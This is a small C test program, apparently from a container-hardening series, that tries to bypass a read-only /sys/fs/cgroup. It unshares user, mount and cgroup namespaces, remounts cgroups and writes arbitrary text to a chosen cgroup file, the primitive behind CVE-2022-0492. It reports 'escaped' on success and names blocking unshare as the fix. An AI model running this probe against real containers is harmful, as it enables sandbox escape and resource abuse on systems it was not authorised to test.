/* unmask.c - write what the launcher has made read-only. */
/* SPDX-License-Identifier: MIT */

/*
 * What:  /sys/fs/cgroup is read-only in a guest. But who may make a user
 *        namespace has CAP_SYS_ADMIN in there, and may mount the same groups
 *        again in a mount namespace of its own: to make thousands of them, or
 *        to write to a file that nobody thought of, as release_agent was
 *        (CVE-2022-0492). Its limits are one group further up since step 05.
 * Stop:  a filter without unshare(2) (step 09).
 *
 * unmask FILE TEXT writes it: unmask cgroup.procs 0. Exit code 0: escaped.
 */
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static int contained(const char *call)
{
	perror(call);
	return 1;
}

static int text_write(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t done = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (fd >= 0)
		close(fd);
	return done < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	char path[256], controller[64];

	if (argc != 3)
		return fprintf(stderr, "usage: unmask FILE TEXT\n"), 2;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return contained("unshare");
	if (text_write("/proc/self/setgroups", "deny") < 0 ||
		text_write("/proc/self/uid_map", "0 0 1") < 0 ||
		text_write("/proc/self/gid_map", "0 0 1") < 0)
		return contained("uid_map");
	/* Version 2 has all controllers; version 1 has this one, perhaps. */
	snprintf(path, sizeof(path), "/mnt/%s", argv[1]);
	snprintf(controller, sizeof(controller), "%.*s",
		(int)strcspn(argv[1], "."), argv[1]);
	if (mount("groups", "/mnt", "cgroup2", 0, NULL) < 0)
		return contained("mount");
	if (text_write(path, argv[2]) == 0)
		return puts("written"), 0;
	if (mount("groups", "/mnt", "cgroup", 0, controller) < 0)
		return contained("mount");
	if (text_write(path, argv[2]) < 0)
		return contained(path);
	return puts("written"), 0;
}
